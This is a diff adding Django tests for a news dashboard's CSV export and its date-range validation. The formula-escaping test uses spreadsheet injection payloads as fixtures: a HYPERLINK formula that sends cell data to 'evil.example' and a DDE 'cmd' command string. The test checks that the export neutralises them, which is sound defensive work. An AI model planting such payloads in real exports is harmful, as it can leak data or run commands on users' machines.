@@ -161,3 +161,77 @@ def test_the_snapshot_is_also_a_django_task(history):
     today = timezone.localdate()
     result = take_daily_snapshots.enqueue(today.isoformat())
     assert result.return_value == RankingSnapshot.objects.filter(day=today).count() > 0
+
+
+FORMULA_HEADLINES = [
+    '=HYPERLINK("https://evil.example/?"&A1,"東京")',
+    "+81 東京 reader numbers",
+    "-5% for Café owners in Zürich",
+    "@SUM(1+1) 📰",
+    "\t=1+1 tab first",
+    "\r=1+1 carriage return first",
+    "＝1+1 full-width, as a Japanese spreadsheet reads it",
+]
+
+
+def test_the_csv_never_carries_a_live_formula(analyst_client):
+    section = CategoryFactory(name="=cmd|'/C calc'!A0", slug="formula-section")
+    for n, headline in enumerate(FORMULA_HEADLINES):
+        article = ArticleFactory(headline=headline, category=section)
+        add_views(article, 10 + n)
+    add_views(article, 5, hours_ago=30)  # first then and now: its change is "="
+    add_views(ArticleFactory(headline="Café in Zürich reopens"), 1)
+
+    response = analyst_client.get(DASHBOARD_URL, {"window": "24h", "format": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    cells = {row[1]: row for row in rows[1:]}
+    for headline in FORMULA_HEADLINES:
+        assert f"'{headline}" in cells, headline
+        assert cells[f"'{headline}"][2] == "'=cmd|'/C calc'!A0"
+    assert cells["Café in Zürich reopens"][2] == "Politics"
+    assert rows[1][6] == "'="
+    for row in rows[1:]:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝"), row
+
+
+@pytest.mark.parametrize(
+    "start, end",
+    [
+        ("0001-01-01", "0001-01-01"),
+        ("0001-01-01", "0001-12-31"),
+        ("0002-01-01", "0002-01-05"),
+        ("9999-12-31", "9999-12-31"),
+        ("9999-01-01", "9999-12-31"),
+        ("1969-12-31", "1970-01-02"),
+    ],
+)
+@pytest.mark.parametrize("output", ["", "csv"])
+def test_dates_at_the_edges_of_the_calendar_get_a_clear_message(
+    analyst_client, history, start, end, output
+):
+    business = history[2].category
+    # What the browser sends from the filter form, with the Download CSV link's format.
+    query = {"window": "", "start": start, "end": end, "section": business.pk}
+    if output:
+        query["format"] = output
+    response = analyst_client.get(DASHBOARD_URL, query)
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "Pick days between January 1, 1970 and December 31, 2999." in html
+    assert "rows" not in response.context
+
+
+def test_the_date_inputs_tell_the_browser_the_limits(analyst_client):
+    html = analyst_client.get(DASHBOARD_URL).content.decode()
+    assert 'min="1970-01-01"' in html
+    assert 'max="2999-12-31"' in html
+
+
+def test_the_first_and_last_days_allowed_give_a_result(analyst_client, history):
+    for start, end in [("1970-01-01", "1970-01-01"), ("2999-12-31", "2999-12-31")]:
+        response = analyst_client.get(DASHBOARD_URL, {"start": start, "end": end})
+        assert response.status_code == 200
+        assert response.context["rows"] == []
+        assert response.context["total_views"] == 0
